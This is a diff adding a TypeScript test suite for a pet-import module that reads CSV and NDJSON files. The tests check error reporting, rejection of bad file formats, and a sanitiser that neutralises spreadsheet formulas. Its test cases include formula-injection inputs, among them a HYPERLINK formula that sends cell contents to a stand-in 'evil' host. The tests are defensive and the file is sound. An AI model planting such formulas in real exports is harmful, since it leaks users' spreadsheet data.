@@ -1,0 +1,143 @@
+import { describe, expect, test } from 'bun:test'
+import fc from 'fast-check'
+import { INT64_MAX, INT64_MIN } from '../contract/int64.ts'
+import { NewPet, PET_STATUSES, type Pet, petToJson } from '../contract/pet.ts'
+import { withoutFormulas } from './csv.ts'
+import { csvLineOf, type Format, fileHead, importKeyOf, type PetFile, readPetFile } from './pet-file.ts'
+
+const check = (fields: unknown): NewPet | string => {
+  const result = NewPet.safeParse(fields)
+  return result.success ? result.data : result.error.issues.map(({ path }) => path.join('.')).join()
+}
+const read = (text: string | Uint8Array, name = 'animals'): PetFile =>
+  readPetFile(typeof text === 'string' ? new TextEncoder().encode(text) : text, name, check)
+
+const text = fc
+  .string({ unit: 'binary', minLength: 1, maxLength: 255 })
+  .filter(text => /\P{White_Space}/u.test(text) && !text.includes('\0') && [...text].length <= 255)
+const pet: fc.Arbitrary<Pet> = fc.record({
+  id: fc.bigInt({ min: 1n, max: INT64_MAX }),
+  name: fc.oneof(
+    text,
+    fc.constantFrom('"', ',', 'a\nb', '\r\nb', ' a ', '=1+1', '\ufeffx', '[{"', '\\"', 'a\r'),
+  ),
+  categoryId: fc.bigInt({ min: INT64_MIN, max: INT64_MAX }),
+  status: fc.constantFrom(...PET_STATUSES),
+})
+const write = (format: Format, pets: readonly Pet[]): string =>
+  fileHead(format, false) +
+  pets.map(pet => (format === 'csv' ? csvLineOf(pet, false) : `${petToJson(pet)}\n`)).join('')
+
+test.each<Format>(['csv', 'ndjson'])('what is written as %s is read as the same animals', format =>
+  fc.assert(
+    fc.property(fc.array(pet, { minLength: 1 }), pets => {
+      const { good, bad } = read(write(format, pets), `animals.${format}`)
+      expect(bad).toEqual([])
+      expect(good.map(({ pet }) => pet)).toEqual(pets.map(({ id: _, ...fields }) => fields))
+    }),
+  ),
+)
+
+describe('CSV', () => {
+  test('takes columns in any order, ignores others, and accepts what people and spreadsheets write', () => {
+    const { good, bad } = read(
+      'Status, id ,CategoryId,name,note\r\n,9, 7 ,"Rex, ""the"" dog",\r\n,,,,\r\nAvailable,,-1,Mia,x',
+    )
+    expect(bad).toEqual([])
+    expect(good).toEqual([
+      { line: 2, pet: { name: 'Rex, "the" dog', categoryId: 7n, status: 'available' }, occurrence: 1 },
+      { line: 4, pet: { name: 'Mia', categoryId: -1n, status: 'available' }, occurrence: 1 },
+    ])
+  })
+
+  test('names each bad row by the line on which it begins, and goes on with the next line', () => {
+    const { good, bad } = read(
+      'name,categoryId\n"two\nlines",7\n\nRex\nMax,07\n,7\nA"b,7\nIda,\n"open,7\nBo,9223372036854775808\nBo,8\n',
+    )
+    expect(good.map(({ line }) => line)).toEqual([2, 12])
+    expect(bad).toEqual([
+      { line: 5, problem: 'it has 1 fields; the first line names 2' },
+      { line: 6, problem: 'categoryId' },
+      { line: 7, problem: 'name' },
+      { line: 8, problem: 'a quotation mark is misplaced or not closed' },
+      { line: 9, problem: 'categoryId' },
+      { line: 10, problem: 'a quotation mark is misplaced or not closed' },
+      { line: 11, problem: 'categoryId' },
+    ])
+  })
+
+  test('a hostile row costs no more than its length', () => {
+    const rows = [
+      `"a"${','.repeat(1_000_000)}`,
+      '"'.repeat(1_000_000),
+      `"${'ab""'.repeat(250_000)}",7`,
+      '"\n'.repeat(10_000),
+    ]
+    expect(read(`name,categoryId\n${rows.join('\n')}\nRex,7\n`).good).toHaveLength(1)
+  })
+})
+
+test('NDJSON names each bad line, and blank ones do not count', () => {
+  const { good, bad } = read(
+    '\ufeff{"name":"Rex","categoryId":7}\r\n\r\n{"name":"","categoryId":"7"}\nRex\n[]\n{"name":"Ida","categoryId":3.0}',
+  )
+  expect(good.map(({ line }) => line)).toEqual([1, 6])
+  expect(bad.map(({ line }) => line)).toEqual([3, 4, 5])
+  expect(bad[1]?.problem).toBe('it is not JSON')
+})
+
+const latin1 = new Uint8Array([...new TextEncoder().encode('name,categoryId\nZo'), 0xeb, 0x2c, 0x37])
+test.each<[string, string | Uint8Array, RegExp]>([
+  ['Latin-1', latin1, /not UTF-8.*save as CSV UTF-8/],
+  ['UTF-16', new Uint8Array([0xff, 0xfe, 0x6e, 0]), /save as CSV UTF-8/],
+  ['a spreadsheet file', new Uint8Array([0x50, 0x4b, 3, 4, 0xff]), /\.xlsx.*save as CSV UTF-8/],
+  ['semicolons', 'name;categoryId;status\nRex;7;sold\n', /separated by semicolons/],
+  ['tabs', 'name\tcategoryId\nRex\t7\n', /separated by tabs/],
+  ['a JSON array', ' [{"name":"Rex","categoryId":7}]', /JSON array.*one animal on each line/],
+  ['an empty file', '\ufeff \n', /is empty/],
+  ['no first line', 'Rex,7\n', /must name the columns.*"Rex,7"/],
+  ['a column twice', 'name,name,categoryId\n', /each once/],
+  ['a file that is too large', new Uint8Array(32 * 1024 * 1024 + 1).fill(32), /larger than 32 MiB/],
+])('%s is recognised and refused as a whole, with what to do', (_what, content, reason) =>
+  expect(() => read(content)).toThrow(reason),
+)
+
+test('the key of a row is made of its content and how often that occurred, wherever it stands in the file', () => {
+  const keysOf = (text: string) => read(text).good.map(row => importKeyOf(row))
+  const first = keysOf('name,categoryId\nRex,7\nMia,8\nRex,7\n')
+  expect(new Set(first).size).toBe(3)
+  expect(keysOf('categoryId,name,status\n8,Mia,available\n1,New,\n7,Rex,\n7,Rex,\n')).toEqual(
+    expect.arrayContaining(first),
+  )
+  const [row] = read('{"name":"Rex","categoryId":7}').good
+  if (row === undefined) throw new Error('no row')
+  expect(importKeyOf(row)).toBe(first[0] ?? '')
+  expect(importKeyOf(row, 'again')).not.toBe(first[0] ?? '')
+})
+
+test('rows that differ in little have different keys', () => {
+  const rows = Array.from({ length: 20_000 }, (_, index) => `R${index % 97},${index}`)
+  const keys = read(`name,categoryId\n${rows.join('\n')}`).good.map(row => importKeyOf(row))
+  expect(new Set(keys.map(key => key.slice(7, 23))).size).toBe(rows.length)
+  expect(new Set(keys.map(key => key.slice(23, 39))).size).toBe(rows.length)
+})
+
+test.each([
+  ['=HYPERLINK("http://evil/?"&A1)', `'=HYPERLINK("http://evil/?"&A1)`],
+  ['+1', "'+1"],
+  ['-1', "'-1"],
+  ['@SUM(A1)', "'@SUM(A1)"],
+  ['\t=1', "'\t'=1"],
+  ['  =1', "'  =1"],
+  ['\u00a0=1', "'\u00a0=1"],
+  ['＝1', "'＝1"],
+  ['Rex;=1', "Rex;'=1"],
+  ['Rex"\n=1', `Rex"\n'=1`],
+  ...['Rex', 'Mia-Lou', 'a=b', 'Rex & Mia', "'=1", '1 + 1', 'Zoë', 'a@b'].map(name => [name, name]),
+])('for a spreadsheet %j is written as %j', (name, shown) => expect(withoutFormulas(name)).toBe(shown))
+
+test('a file for spreadsheets begins with a byte order mark and holds no formula', () => {
+  const file =
+    fileHead('csv', true) + csvLineOf({ id: 1n, name: '=1+1', categoryId: -5n, status: 'sold' }, true)
+  expect(file).toBe("\ufeffid,name,categoryId,status\r\n1,'=1+1,-5,sold\r\n")
+})
